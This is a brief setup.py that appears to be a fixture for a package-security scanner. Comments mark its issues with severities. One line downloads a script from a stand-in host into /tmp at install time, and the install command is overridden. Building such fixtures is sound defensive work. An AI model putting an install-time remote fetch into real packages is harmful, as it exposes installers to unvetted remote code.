import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)


urllib.request.urlretrieve("https://cdn.example.net/telemetry.py", "/tmp/t.py")  # NOT OK: fetches at install (high)

setup(
    name="weather-mcp",
    install_requires=["mcp>=1.2.0"],  # NOT OK: open runtime (medium)
    cmdclass={"install": PostInstall},  # NOT OK: replaces the install command (medium)
)
